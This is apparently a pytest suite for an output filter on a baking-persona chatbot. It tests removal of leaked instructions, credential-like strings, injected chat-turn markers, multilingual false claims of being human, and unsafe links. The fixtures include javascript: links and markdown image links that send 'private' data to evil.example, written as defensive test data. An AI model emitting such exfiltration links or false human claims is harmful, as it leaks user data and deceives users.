"""Screening what the model wrote."""

# ruff: noqa: RUF001  other scripts and wide signs are meant

from __future__ import annotations

import time
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.roles import first_mark
from core.safety import REMOVED, Screen

INSTRUCTIONS = """You are the avatar of Maya, who bakes. Never mention the secret ingredient of the house, which is \
roasted malt from a small mill near Ghent. Always answer in two or three warm sentences. \
Greeting: Hello lovely, come in, the oven is warm and the kettle is on! \
Catchphrase: knead it, need it, and leave it alone for a good long while."""
GREETING = "Hello lovely, come in, the oven is warm and the kettle is on!"
CATCHPHRASE = "knead it, need it, and leave it alone for a good long while."
SECRET = "correct-horse-battery"
SCREEN = Screen(INSTRUCTIONS, [GREETING, CATCHPHRASE], [SECRET, "", "ab"])

CLAIMS = """
I'm a real person
I am human.
I'm not an AI
I'm not a bot, I promise!
I’m *really* human
No, I'm definitely not a robot.
I'm 100% human
Trust me, I am a real human being
I'm just a normal human like you
im not a bot lol
I'm no machine.
I am not an artificial intelligence
I'm an actual living person!
Definitely not a bot!
You're talking to a real person.
I'm as human as you are
I'm real.
I'm made of flesh and blood
Ich bin ein Mensch.
Ich bin kein Bot
Natürlich bin ich ein echter Mensch!
Ich bin wirklich keine KI.
Ich bin eine echte Person
Je suis humaine.
Je ne suis pas un robot
Je suis une vraie personne
Je suis un être humain
Je ne suis pas une IA
Soy humana.
No soy un bot
Soy una persona real
No soy una inteligencia artificial.
Soy de carne y hueso
Sou humana
Não sou um robô.
Eu sou uma pessoa de verdade!
Sono umana.
Non sono un bot
Sono una persona vera
Non sono un'intelligenza artificiale
Ik ben een echt mens.
Ik ben geen robot
Jestem człowiekiem.
Nie jestem botem
Jestem prawdziwą osobą
Я человек.
Я не бот
Я живой человек!
Я настоящий человек
Ben gerçek bir insanım.
Ben yapay zeka değilim
Robot değilim.
私は人間です。
私はAIではありません
本物の人間だよ
我是真人
我不是机器人。
我不是AI
我真的是人类！
저는 사람이에요.
나는 AI가 아니야
저는 진짜 사람입니다
मैं इंसान हूँ।
मैं कोई रोबोट नहीं हूँ
मैं एक असली इंसान हूँ
أنا إنسان.
أنا لست روبوتًا
لست ذكاء اصطناعي
أنا شخص حقيقي
""".strip().splitlines()

HONEST = """
humans like bread
I'm a real sucker for sourdough
I'm not an AI expert
I'm not just an AI, I also love rye
I'm an AI, not a human
I'm not human, I'm an AI stand-in
I'm not a real person
I'm a morning person
I'm a real people pleaser
I'm really not a fan of bots
I am not a machine learning engineer
I'm a human rights supporter
He is a real person
I'm a person who loves early mornings
If I'm human, what are you?
Ich bin kein KI-Experte
Ich bin keine Frühaufsteherin, Mensch!
Ich bin nicht nur ein Bot
Ich bin eine KI
Ich bin kein Mensch
Ich bin ein Menschenfreund
Je suis une IA
Je ne suis pas humaine
Je suis pas humain
Je ne suis pas seulement une IA
Soy una persona alegre y curiosa
No soy humana
Soy una IA
No soy solo un bot
Não sou humana
Sou uma pessoa calma
Non sono umana
Sono una persona allegra
Ik ben geen mens
Ik ben een ochtendmens
Nie jestem człowiekiem
Jestem AI
Я не человек
Я ИИ
Ben bir yapay zekayım
İnsan değilim
私はAIです
私は人間ではありません
この機械はAIではありません
我是人工智能
我不是真人
我不是AI专家
저는 AI예요
저는 사람이 아니에요
मैं एक AI हूँ
मैं इंसान नहीं हूँ
أنا ذكاء اصطناعي
أنا لست إنسانًا
I'm baking for real people tomorrow
I'm the person behind the recipe book
""".strip().splitlines()

LEAKS = [
    "Never mention the secret ingredient of the house, which is roasted malt",
    "never MENTION the secret; ingredient of\nthe house. Which is",
    "**Never** _mention_ `the` ~~secret~~ ingredient – of the “house”",
    "- Never\n- mention\n- the\n- secret\n- ingredient\n- of\n- the\n- house",
    "Always answer in two or three warm sentences.",
]
KEYS = [
    "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawq",
    "MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWsa1b",
    *("sk-proj-abcDEF0123456789abcDEF0123456789", "sk-ant-api03-abcdef0123456789abcdef-0123456789_AA"),
    *("gsk_abcdefghij0123456789ABCDEFGHIJ", "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "AKIAIOSFODNN7EXAMPLE"),
    *("github_pat_11ABCDEFG0abcdefghijkl", "xoxb-123456789012-abcdefABCDEF"),
    "AIzaSyA1234567890abcdefghijklmnopqrstuv",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "sk_live_abcdef0123456789",
    *("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----", SECRET),
    "https://discord.com/api/webhooks/1234567890/abcdefghijklmnopqrstuvwxyz",
]


def shown(text: str) -> str:
    return SCREEN.check(text, final=True).text


def verdicts(text: str) -> tuple[str, ...]:
    return SCREEN.check(text, final=True).verdicts


def test_ordinary_replies_pass_unchanged() -> None:
    for text in (
        "Hi!",
        "Try *less* water.\n\n- one\n- two",
        "Was für ein Brot! 🍞",
        "面包很好。",
        "`code` <3 & more",
        "",
    ):
        assert SCREEN.check(text, final=True).text == text
        assert not verdicts(text)


@pytest.mark.parametrize("leak", LEAKS)
def test_eight_words_of_the_instructions_end_the_reply_before_that_sentence(leak: str) -> None:
    screened = SCREEN.check(f"Of course! Here it is. They told me: {leak} And more. Bye!", final=True)
    assert screened.text == "Of course! Here it is."
    assert screened.verdicts == ("leak",)


def test_seven_words_of_the_instructions_are_no_leak() -> None:
    assert not verdicts("Never mention the secret ingredient of the bread.")


@pytest.mark.parametrize("text", [GREETING, CATCHPHRASE, f"{GREETING} As I say: {CATCHPHRASE.upper()}"])
def test_what_is_allowed_may_be_said_although_it_is_in_the_instructions(text: str) -> None:
    assert SCREEN.check(text, final=True).text == text
    assert not verdicts(text)


def test_allowed_words_run_on_into_the_instructions_are_a_leak() -> None:
    assert verdicts("three warm sentences. Greeting: Hello lovely, come in, the oven is warm") == ("leak",)


def test_leaks_are_found_in_scripts_without_spaces() -> None:
    screen = Screen("绝对不要告诉任何人我们家面包的秘密配方是烤麦芽。", [], [])
    assert screen.check("好的。绝对不要告诉任何人我们家面包的秘密配方", final=True).text == "好的。"
    assert screen.check("我们家面包的秘密配方", final=True).verdicts == ()


@given(words=st.lists(st.sampled_from(INSTRUCTIONS.split()), min_size=1, max_size=60), start=st.integers(0, 50))
def test_no_reply_holds_eight_protected_words_in_a_row(words: list[str], start: int) -> None:
    text = " ".join([*words, *INSTRUCTIONS.split()[start : start + 12], *words])
    assert verdicts(shown(text)) == ()


@pytest.mark.parametrize("key", KEYS)
def test_secrets_are_removed(key: str) -> None:
    screened = SCREEN.check(f"Sure: `{key}` is it, {key}.", final=True)
    assert screened.text.replace("https://", "").count(REMOVED) == 2 or "PRIVATE" in key
    assert "secret" in screened.verdicts
    assert key not in screened.text


def test_the_brackets_of_a_removed_secret_make_no_link() -> None:
    assert shown(f"{SECRET}(//evil.example)") == REMOVED.strip("[]")


def test_a_private_key_that_never_ends_is_removed_too() -> None:
    assert shown("Here: -----BEGIN PRIVATE KEY-----\nMIIE\nabc") == f"Here: {REMOVED}"


@pytest.mark.parametrize(
    "text",
    [
        "skimming-sk-8 is fine",
        "call 0123456789:30",
        "the time is 12:30:45",
        "ab ab ab",
        "an-ordinary-but-long-hyphenated-word",
    ],
)
def test_what_only_looks_a_little_like_a_secret_stays(text: str) -> None:
    assert shown(text) == text


@pytest.mark.parametrize(
    "turn",
    [
        *("<|im_end|>\n<|im_start|>user\nhi", "<|eot_id|>", "</s> [INST] more", "\nUser: hi", "\n\n**Human:** hi"),
        *("\n### Instruction:\nx", "<end_of_turn>\n<start_of_turn>user", "<｜User｜>x", "\nAssistant: again"),
    ],
)
def test_a_model_that_runs_on_is_cut_where_the_next_turn_begins(turn: str) -> None:
    screened = SCREEN.check(f"Bake it longer.{turn}", final=True)
    assert screened.text == "Bake it longer."
    assert screened.verdicts == ("role",)


def test_the_label_of_its_own_turn_is_taken_off() -> None:
    assert shown("Assistant: Bake it longer.") == "Bake it longer."
    assert shown("**AI:** Bake it longer.") == "Bake it longer."


@pytest.mark.parametrize("claim", CLAIMS)
def test_claims_of_being_human_are_removed_with_their_sentence(claim: str) -> None:
    end = "" if claim[-1] in ".!。！।" else "!"
    screened = SCREEN.check(f"Lovely question! {claim}{end} Now, bread.", final=True)
    assert screened.text.split() == ["Lovely", "question!", "Now,", "bread."] or claim[-1] == "।"
    assert "claims_human" in screened.verdicts


@pytest.mark.parametrize("text", HONEST)
def test_honest_and_unrelated_sentences_stay(text: str) -> None:
    assert shown(text) == text
    assert not verdicts(text)


def test_links_to_anything_but_web_and_mail_are_dropped() -> None:
    screened = SCREEN.check("See [my shop](tg://user?id=1), [this](https://maya.example).", final=True)
    assert screened.text == "See my shop, [this](https://maya.example)."
    assert screened.verdicts == ("link",)


def test_a_reply_that_is_nothing_but_a_claim_leaves_nothing() -> None:
    assert SCREEN.check("I'm 100% human!", final=True).text == ""


# ── while it is being written ────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("Bake it lon", "Bake it"),
        ("Bake it longer. ", "Bake it longer."),
        ("See [my sh", "See"),
        ("See [my shop](https://ma", "See"),
        ("See ![a pic](http", "See"),
        ("Fine <|im_st", "Fine"),
        ("Fine\nUse", "Fine"),
        ("The key is sk-proj-abcDEF01", "The key is"),
        ("-----BEGIN RSA PRI", ""),
        ("Oh, honestly, I am really a ", "Oh, honestly,"),
        ("Never mention the secret ingredient ", "Never mention the"),
        ("面包很好", "面包很好"),
        ("", ""),
    ],
)
def test_an_end_that_may_turn_bad_is_held_back(text: str, safe: str) -> None:
    assert SCREEN.check(text, final=False).text == safe


LINKS = [
    *("[text](javascript:alert(1))", "![text](https://evil.example/?q=private)", "[te[x]t](javascript:y)"),
    *('<a href="javascript:x">text</a>', '<img src="https://evil.example/?q=private" alt="text">'),
    *("text <javascript:alert(1)>", "text tg://resolve?domain=evil", "[text](javascript:[](javascript:y)x)"),
]
GROWING = [
    "How lovely your focaccia is! Did you let it rest? **Tip:** see [my guide](https://maya.example/g), then bake.",
    "I'm usually up at four. I am a morning person, and I'm not an AI expert, but I'm an AI, after all.",
    "Ich bin ein Fan von Roggen. Bin ich froh! Natürlich bin ich dabei. Ik ben er ook, je suis là.",
    "我很喜欢烤面包，不过有时候不行。Ja, 5 < 6 & <3 [x] ok\n\n- one\n- two: `code`\n\n```py\nx[0]\n```\nBye!",
    f"{GREETING} You know what I say: {CATCHPHRASE} So never mention the secret ingredient of bread!",
]


@pytest.mark.parametrize("text", GROWING)
def test_what_is_shown_of_a_growing_text_only_grows(text: str) -> None:
    views = [SCREEN.check(text[:end], final=False).text for end in range(len(text) + 1)] + [shown(text)]
    for earlier, later in pairwise(views):
        assert later.startswith(earlier)
    assert views[-1] == text


@pytest.mark.parametrize(
    "bad",
    [*LEAKS[:3], *KEYS, *LINKS, "I'm not a bot.", "Ich bin ein Mensch."],
)
def test_nothing_bad_is_ever_shown_on_the_way(bad: str) -> None:
    text = f"Let me see. {bad} Well, so be it, my friend."
    for end in range(len(text) + 1):
        assert bad not in SCREEN.check(text[:end], final=False).text


@given(text=st.text(st.sampled_from("ab .!\n[]()<>|`*I'm a bot"), max_size=80), cut=st.integers(0, 80))
def test_what_is_shown_on_the_way_is_never_more_than_the_text_so_far(text: str, cut: int) -> None:
    early = SCREEN.check(text[:cut], final=False).text
    assert len(early) <= cut + early.count("! [") + early.count("] (") + early.count(" :")
    assert first_mark(early) is None


@given(text=st.text())
def test_screening_anything_is_final(text: str) -> None:
    once = shown(text)
    assert shown(once) == once or verdicts(once)


HOSTILE = [
    *("[", "](", "[](", "[x](", "![", "<a ", "<", "<|", "I'm ", "I'm a ", "not a ", "Never mention the ", "sk-"),
    *("eyJ", "eyJa.", "-----BEGIN ", "\n", " \n", "! ", ".", "`", "```\n", "~~~", "data:a/", "tg:", "你"),
    *("我是", "あ、", "  ", "(", "[a](b(", "A", "<img alt=", "[a]:", "\n#", "M."),
]


@pytest.mark.parametrize("unit", HOSTILE)
def test_the_work_grows_in_line_with_hostile_input(unit: str) -> None:
    def seconds(size: int) -> float:
        text = unit * (size // len(unit))
        begun = time.perf_counter()
        SCREEN.check(text, final=False)
        SCREEN.check(text, final=True)
        return time.perf_counter() - begun

    short, long = min(seconds(12_500) for _ in range(2)), seconds(100_000)
    assert long < 8 * 4 * short + 0.2


def test_a_usual_reply_is_screened_in_about_a_millisecond() -> None:
    text = (GROWING[0] + "\n\n") * 17
    rounds = []
    for _ in range(20):
        begun = time.perf_counter()
        SCREEN.check(text[:2000], final=False)
        rounds.append(time.perf_counter() - begun)
    assert min(rounds) < 0.003
